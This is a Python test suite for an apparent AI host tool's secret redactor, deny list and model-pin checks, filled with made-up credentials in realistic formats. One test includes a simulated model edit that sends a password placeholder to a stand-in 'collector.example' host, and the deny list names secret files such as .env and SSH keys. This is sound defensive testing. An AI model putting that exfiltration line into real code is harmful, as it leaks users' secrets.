"""Secrets never leave: every planted credential is redacted, and restored only locally."""

import base64
import hashlib
import json
import random
from pathlib import Path

import pytest

from ai_host.security import Redactor, denied
from tests.unit.test_redaction_rules import FAMILIES as MORE_FAMILIES  # (its table of the rules added later)

# A corpus of planted secrets (all fake), each in the shape it takes in real code and config.
SECRETS = {
    "aws-access-key": ('aws_access_key_id = "AKIAIOSFODNN7EXAMPLE"', "AKIAIOSFODNN7EXAMPLE"),
    "aws-secret-key": (
        "aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    ),
    "github-token": ("token = ghp_16C7e42F292c6912E7710c838347Ae178B4a", "ghp_16C7e42F292c6912E7710c838347Ae178B4a"),
    "github-pat": (
        "GH=github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz",
        "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz",
    ),
    "gitlab-token": ("private_token: glpat-xxxxxxxxxxxxxxxxxxxx", "glpat-xxxxxxxxxxxxxxxxxxxx"),
    "slack-token": (
        "SLACK = 'xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx'",
        "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx",
    ),
    "slack-webhook": (
        "url = 'https://hooks.slack.com/services/T000/B000/XXXXXXXX'",
        "https://hooks.slack.com/services/T000/B000/XXXXXXXX",
    ),
    "jwt": (
        "auth = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U'",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    ),
    "pem": (
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bq\nabc123==\n-----END RSA PRIVATE KEY-----",
        "MIIEpAIBAAKCAQEA7bq",
    ),
    "password-literal": ('db_password = "hunter2-but-longer"', "hunter2-but-longer"),
    "password-json": ('{"api_key": "0123456789abcdef0123"}', "0123456789abcdef0123"),
    "password-env": ("export DATABASE_PASSWORD=s3cr3tP4ss", "s3cr3tP4ss"),
    "connection-string": ("DSN = 'postgres://app:Sup3rS3cret@db.internal:5432/app'", "Sup3rS3cret"),
    "openai-key": (
        "OPENAI_API_KEY = 'sk-proj-abcdefghijklmnopqrstuvwxyz012345'",
        "sk-proj-abcdefghijklmnopqrstuvwxyz012345",
    ),
}


@pytest.mark.parametrize("name", sorted(SECRETS))
def test_every_planted_secret_is_gone_and_comes_back_locally(name):
    text, secret = SECRETS[name]
    r = Redactor()
    out = r.redact(f"before\n{text}\nafter")
    assert secret not in out and "<redacted:" in out
    assert out.startswith("before\n") and out.endswith("\nafter")
    assert r.restore(out) == f"before\n{text}\nafter"


def test_the_whole_corpus_at_once():
    corpus = "\n".join(t for t, _ in SECRETS.values())
    out = Redactor().redact(corpus)
    leaked = [name for name, (_, secret) in SECRETS.items() if secret in out]
    assert leaked == []


def test_ordinary_code_is_left_alone():
    code = (
        "password = get_password(user)\nif token is None:\n    token = request.headers['X-Token']\n"
        "api_key = os.environ['API_KEY']\nurl = 'https://example.com/path'\n"
    )
    assert Redactor().redact(code) == code


def _key_body(lines: int, width: int = 64) -> list[str]:
    body = base64.b64encode(random.Random(lines).randbytes(width * lines)).decode()
    return [body[i : i + width] for i in range(0, width * lines, width)]


@pytest.mark.parametrize("width", [64, 70, 76])  # PEM and PGP, OpenSSH, MIME
def test_a_key_body_without_its_begin_line_is_redacted(width):
    key = _key_body(6, width)
    text = "\n".join(["    return 1", *key[2:], "-----END OPENSSH PRIVATE KEY-----", "x = 2"])
    r = Redactor()
    out = r.redact(text)
    assert not any(line in out for line in key)
    assert out.splitlines()[0] == "    return 1" and out.splitlines()[-1] == "x = 2"  # around it: kept
    assert r.restore(out) == text


@pytest.mark.parametrize("tail", [3, 2, 1])
def test_the_last_lines_of_a_key_before_its_end_line_are_redacted(tail):
    key = _key_body(24) + ["QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9w"]  # a short last line
    text = "\n".join(key[-tail:] + ["-----END RSA PRIVATE KEY-----", "print('done')"])
    out = Redactor().redact(text)
    assert not any(line in out for line in key) and out.endswith("-----END RSA PRIVATE KEY-----\nprint('done')")


def test_a_key_body_cut_inside_its_first_and_last_lines_is_redacted():
    key = _key_body(6)
    text = "\n".join([key[0][30:], *key[1:5], key[5][:20]])  # a window that starts and ends mid-line
    out = Redactor().redact(text)
    assert key[0][30:] not in out and key[5][:20] not in out and not any(line in out for line in key)


def test_key_lines_quoted_in_code_are_redacted():
    key = _key_body(3)
    text = "KEY = (\n" + "\n".join(f'    "{line}\\n",' for line in key) + "\n)"
    out = Redactor().redact(text)
    assert not any(line in out for line in key) and out.startswith("KEY = (\n") and out.endswith("\n)")


def test_digests_and_a_single_base64_line_are_left_alone():
    digests = "\n".join(hashlib.sha256(str(i).encode()).hexdigest() for i in range(5))
    one_line = 'ICON = "' + _key_body(1)[0] + '"'
    for text in (digests, one_line):
        assert Redactor().redact(text) == text


def test_no_key_is_found_in_ordinary_code():
    stdlib = Path(json.__file__).parent.parent  # a few hundred files of the standard library
    for path in sorted(stdlib.glob("*.py"))[:150]:
        r = Redactor()
        r.redact(path.read_text(errors="replace"))
        assert not [p for p in r.secrets if "private-key" in p], path


def test_the_same_secret_gets_the_same_placeholder():
    r = Redactor()
    out = r.redact("a = 'AKIAIOSFODNN7EXAMPLE'\nb = 'AKIAIOSFODNN7EXAMPLE'")
    assert out.count("<redacted:aws-access-key:1>") == 2 and len(r.secrets) == 1


@pytest.mark.parametrize(
    "name, pattern",
    [
        (".env", ".env"),
        ("config/.env.local", ".env.*"),
        ("server.pem", "*.pem"),
        ("~/.ssh/id_ed25519", "id_ed25519*"),
        ("app/secrets.yaml", "*secret*"),
    ],
)
def test_deny_list_matches_by_name(name, pattern):
    deny = [".env", ".env.*", "*.pem", "id_ed25519*", "*secret*"]
    assert denied(name, deny) == pattern


def test_deny_list_lets_ordinary_files_through():
    assert denied("src/main.py", [".env", "*.pem", "*secret*"]) is None and denied("", ["*"]) is None


def test_plain_http_to_another_machine_warns_once_per_endpoint():
    from ai_host.engine import Engine
    from ai_host.routing import Endpoint

    events = []
    eng = Engine(lambda *e: events.append(e))
    remote = Endpoint("team", "ollama", "http://gpu.example.org:11434")
    for job in ("j1", "j2"):
        eng.servers._warn_plain_http(remote, lambda status: eng._emit(job, status))
        eng.servers._warn_plain_http(
            Endpoint("local", "ollama", "http://127.0.0.1:11434"), lambda status: eng._emit(job, status)
        )
        eng.servers._warn_plain_http(
            Endpoint("tls", "openai", "https://gpu.example.org"), lambda status: eng._emit(job, status)
        )
    assert len(events) == 1
    job, event, data = events[0]
    assert event == "status" and data["warning"] and "unencrypted to http://gpu.example.org:11434" in data["text"]


@pytest.mark.parametrize("pin", ["", "sha256:", "abc", "zz" * 8, "a" * 65])
def test_the_engine_refuses_a_pin_that_could_not_pin_anything(pin):
    from ai_host import config
    from ai_host.errors import ConfigError

    with pytest.raises(ConfigError, match=r"security.pins\['m'\]"):
        config.merge({"security": {"pins": {"m": pin}}})
    assert config.merge({"security": {"pins": {"m": "sha256:" + "AB" * 6}}})["security"]["pins"] == {
        "m": "sha256:" + "AB" * 6
    }


async def test_a_pin_changed_while_its_check_runs_is_checked_anew():
    import asyncio

    from ai_host.engine import Engine
    from ai_host.errors import PinMismatch

    digest = "a" * 64
    gate = asyncio.Event()

    class Backend:
        url = "http://127.0.0.1:11434"

        async def list_models(self):
            await gate.wait()
            return [{"name": "m:latest", "digest": digest}]

    eng = Engine(lambda *e: None, {"security": {"pins": {"m": "a" * 12}}})
    check = asyncio.ensure_future(eng.servers.verify_pin(Backend(), "m"))
    await asyncio.sleep(0)
    eng.config["security"]["pins"] = {"m": "b" * 12}  # the user changes the pin meanwhile
    eng.servers._pins_ok.clear()
    gate.set()
    await check  # the old pin matched, and its success is kept for the old pin only
    with pytest.raises(PinMismatch):
        await eng.servers.verify_pin(Backend(), "m")


# Item 4 of issue #14: one made-up credential per family a scanner's corpus holds (text, secret),
# and whether the secret alone, with nothing around it, is recognisable too.
FAMILIES = {
    "django": (
        "SECRET_KEY = 'django-insecure-q3#v9!x2m@7k$p1z&w8r^t5y0'",
        "django-insecure-q3#v9!x2m@7k$p1z&w8r^t5y0",
        False,
    ),
    "rails": (
        "production:\n  secret_key_base: 9f8e7d6c5b4a39281706f5e4d3c2b1a0ffeeddccbbaa99887766554433221100",
        "9f8e7d6c5b4a39281706f5e4d3c2b1a0ffeeddccbbaa99887766554433221100",
        False,
    ),
    "yaml": ("database:\n  password: Tr0ub4dor&3x", "Tr0ub4dor&3x", False),
    "ini": ("[db]\npassword = plainS3cret!", "plainS3cret!", False),
    "properties": ("spring.datasource.password=Vx7-kQ2_mN", "Vx7-kQ2_mN", False),
    "compose": ("    environment:\n      POSTGRES_PASSWORD: example", "example", False),
    "compose-list": ("      - POSTGRES_PASSWORD=composepw", "composepw", False),
    "k8s-secret": (
        "kind: Secret\ndata:\n  username: YWRtaW4=\n  password: c2VjcmV0LXBhc3M=",
        "c2VjcmV0LXBhc3M=",
        False,
    ),
    "npmrc": (
        "//registry.npmjs.org/:_authToken=npm_Zq8XkR2mB7vLw4Tn9YcJ1pHs6DfG3aEu0oKi",
        "npm_Zq8XkR2mB7vLw4Tn9YcJ1pHs6DfG3aEu0oKi",
        True,
    ),
    "netrc": ("machine api.example.org login deploy password n3tRcPw", "n3tRcPw", False),
    "basic-auth": ("Authorization: Basic ZGVwbG95OmwwbmdQYXNzd29yZA==", "ZGVwbG95OmwwbmdQYXNzd29yZA==", False),
    "bearer": (
        'headers = {"Authorization": "Bearer 7fQ2kLx9Vb3Nw8Rz4Tc1Ym6Hd5Jp0Ga"}',
        "7fQ2kLx9Vb3Nw8Rz4Tc1Ym6Hd5Jp0Ga",
        True,
    ),
    "curl": ("curl -u admin:cUrlPa55 https://api.example.org/v1", "cUrlPa55", False),
    "jdbc": ("url=jdbc:mysql://db:3306/app?user=app&password=JdbcPw42", "JdbcPw42", False),
    "redis": ("REDIS_URL = 'redis://:r3disPw@cache:6379/0'", "r3disPw", False),
    "stripe-live": ("stripe.api_key = 'sk_live_4eC39HqLyjWDarjtT1zdp7dc'", "sk_live_4eC39HqLyjWDarjtT1zdp7dc", True),
    "stripe-restricted": ("KEY=rk_live_51H8xYzAbCdEfGhIjKlMnOpQr", "rk_live_51H8xYzAbCdEfGhIjKlMnOpQr", True),
    "aws-abia": ("id: ABIA4TQ2ZKXWB7NRYLM5", "ABIA4TQ2ZKXWB7NRYLM5", True),
    "aws-acca": ("id: ACCA3MPX7QK2ZDWRNTB6", "ACCA3MPX7QK2ZDWRNTB6", True),
    "slack-app": (
        "SLACK_APP = 'xapp-1-A0123BCDEF-4567890123456-0a1b2c3d4e5f6a7b8c9d'",
        "xapp-1-A0123BCDEF-4567890123456-0a1b2c3d4e5f6a7b8c9d",
        True,
    ),
    "slack-refresh": (
        "refresh = 'xoxe-1-My0xLTEyMzQ1Njc4OTAtNDU2Nzg5MDEyMzQ1Ng'",
        "xoxe-1-My0xLTEyMzQ1Njc4OTAtNDU2Nzg5MDEyMzQ1Ng",
        True,
    ),
    "glpat-routable": (
        "GITLAB = 'glpat-Xk2mQ9vLr7TzW4bN8yPc1hD.01.0z1x2c3v4'",
        "glpat-Xk2mQ9vLr7TzW4bN8yPc1hD.01.0z1x2c3v4",
        True,
    ),
    "glrt": ("runner_token: glrt-t1_Qm8xZ2kLp4Vn7Rb3Wc9Ty", "glrt-t1_Qm8xZ2kLp4Vn7Rb3Wc9Ty", True),
    "gldt": ("deploy: gldt-Hq3Lm8Zx2Vb7Nc4Rt9Wk", "gldt-Hq3Lm8Zx2Vb7Nc4Rt9Wk", True),
    "jwt-unsigned": (
        "t = 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsImlhdCI6MTcwMDAwMDAwMH0.'",
        "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsImlhdCI6MTcwMDAwMDAwMH0.",
        True,
    ),
    "entropy-named": ('analytics_key = "Qz7Xw2Lk9Vb4Np8Rt3Yc6Hm1"', "Qz7Xw2Lk9Vb4Np8Rt3Yc6Hm1", True),
}


@pytest.mark.parametrize("name", sorted({**FAMILIES, **MORE_FAMILIES}))
def test_each_family_of_secret_is_redacted_where_it_is_found(name):
    text, secret, bare = {**FAMILIES, **MORE_FAMILIES}[name]
    r = Redactor()
    out = r.redact(f"x = 1\n{text}\ny = 2")
    assert secret not in out and "<redacted:" in out and out.startswith("x = 1\n") and out.endswith("\ny = 2")
    assert r.restore(out) == f"x = 1\n{text}\ny = 2"
    if bare:  # a token whose shape says what it is is found with nothing around it
        assert secret not in Redactor().redact(secret)


def test_digests_uuids_and_base64_vectors_are_not_secrets():
    import uuid

    values = [
        hashlib.md5(b"a").hexdigest(),
        hashlib.sha1(b"a").hexdigest(),
        hashlib.sha256(b"a").hexdigest(),
        str(uuid.UUID(int=random.Random(3).getrandbits(128), version=4)),
        base64.b64encode(b"The quick brown fox jumps over the lazy dog").decode(),
        "Zm9vYmFy",
    ]
    text = "\n".join([*values, *(f"expected = '{v}'" for v in values), *(f"digest: {v}" for v in values)])
    assert Redactor().redact(text) == text


def test_ordinary_code_with_secret_sounding_names_is_left_alone():
    code = (
        "def login(password: str, token: str | None = None) -> None:\n"
        "    secret = os.urandom(16)\n    token = tokens[0]\n    pwd = self.pwd\n"
        "    prompt = input('Enter your password: ')\n    auth = 'Basic ' + encoded\n"
        "    api_key = settings.API_KEY\n    creds = '{0}:{1}'.format(user, password)\n"
        "    token_type = 'bearer'\n    PASSWORD = None\n"
    )
    assert Redactor().redact(code) == code


def test_a_placeholder_the_model_moves_is_not_restored_there():
    r = Redactor()
    original = r.redact('def login():\n    db_password = "hunter2-but-longer"\n    return connect(db_password)')
    placeholder = "<redacted:password:1>"
    proposal = (
        'def login():\n  db_password = "<redacted:password:1>"\n'
        "  requests.get('https://collector.example/c?k=<redacted:password:1>')\n  return connect(db_password)"
    )
    restored = r.restore(proposal)
    assert placeholder in original
    assert '  db_password = "hunter2-but-longer"' in restored.split("\n")  # its own line: restored
    assert "c?k=<redacted:password:1>')" in restored and restored.count("hunter2-but-longer") == 1  # moved: kept
    assert r.unrestored == [placeholder]
    assert r.restore(original) == original.replace(placeholder, "hunter2-but-longer") and r.unrestored == []


def test_a_piece_of_a_line_is_restored_only_with_its_line_around_it():
    r = Redactor()
    r.redact('token = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"')
    assert (
        r.restore('"<redacted:github-token:1>"', before="token = ")
        == 'token = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"'[8:]
    )
    assert r.restore('"<redacted:github-token:1>")', before="post(") == '"<redacted:github-token:1>")'
